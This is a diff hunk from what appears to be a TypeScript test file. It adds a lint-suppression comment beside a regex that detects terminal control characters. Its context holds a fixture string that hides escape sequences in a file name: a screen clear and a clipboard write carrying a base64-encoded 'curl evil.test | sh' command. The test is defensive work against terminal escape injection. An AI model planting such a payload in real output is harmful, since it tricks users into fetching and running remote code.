@@ -12,6 +12,7 @@ import { tempDir } from '../helpers/temp';
 const ESC = '\x1b';
 const HOSTILE = `meeting${ESC}[2J${ESC}]52;c;${Buffer.from('curl evil.test | sh').toString('base64')}\x07 notes`;
 // Anything a terminal would act on: ESC, BEL, CR, the 8-bit CSI.
+// eslint-disable-next-line no-control-regex -- finding control characters is the point
 const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
 
 let dir: string;
